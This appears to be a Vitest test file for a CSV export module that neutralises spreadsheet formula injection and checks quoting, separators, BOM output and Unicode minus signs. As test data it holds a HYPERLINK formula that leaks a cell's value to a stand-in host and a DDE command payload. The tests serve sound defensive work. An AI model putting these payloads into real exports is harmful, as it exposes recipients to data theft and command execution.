import { describe, expect, it } from 'vitest'
import { csvField, neutraliseCell, toCsv } from './csv.ts'

const HOSTILE = '=HYPERLINK("http://x?leak="&A1,"click")'

describe('neutraliseCell', () => {
  it.each([
    [HOSTILE, `'${HOSTILE}`],
    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    // Plain numbers, as numbers or as text, are left as they are: they stay numeric.
    [-5.35, '-5.35'],
    ['-5.35', '-5.35'],
    ['-5,35', '-5,35'],
    ['+5', '+5'],
    ['1e-3', '1e-3'],
    [0, '0'],
    // A number as the page shows it, with a minus sign, is written with the "-" spreadsheets read.
    ['\u22125,35', '-5,35'],
    ['\u22120.36', '-0.36'],
    // Text that only starts with one stays as it is.
    ['\u2212 tăng', '\u2212 tăng'],
    ['\u22125,35 ↓3', '\u22125,35 ↓3'],
    // Only the first character counts.
    ['a=b', 'a=b'],
    ['Huyện Thạnh Hóa', 'Huyện Thạnh Hóa'],
    [null, ''],
    [undefined, ''],
    [true, 'true'],
  ])('%j → %j', (value, expected) => {
    expect(neutraliseCell(value)).toBe(expected)
  })
})

describe('csvField', () => {
  it.each([
    ['a,b', ',', '"a,b"'],
    ['a,b', ';', 'a,b'],
    ['a;b', ';', '"a;b"'],
    ['say "hi"', ',', '"say ""hi"""'],
    ['two\nlines', ',', '"two\nlines"'],
    ['cr\rlf', ',', '"cr\rlf"'],
    [HOSTILE, ',', `"'=HYPERLINK(""http://x?leak=""&A1,""click"")"`],
    ['\r=1+1', ',', `"'\r=1+1"`],
  ])('%j with %j → %s', (value, separator, expected) => {
    expect(csvField(value, separator)).toBe(expected)
  })
})

describe('toCsv', () => {
  it('writes a BOM, a header row and CRLF after every line', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          [1, 'x'],
          [-2, null],
        ],
      ),
    ).toBe('\uFEFFa,b\r\n1,x\r\n-2,\r\n')
  })

  it('takes a separator and can leave out the BOM', () => {
    expect(toCsv(['a', 'b'], [['1,5', '=1']], { separator: ';', bom: false })).toBe(
      "a;b\r\n1,5;'=1\r\n",
    )
  })

  it('neutralises header cells too', () => {
    expect(toCsv(['@x'], [])).toBe("\uFEFF'@x\r\n")
  })
})
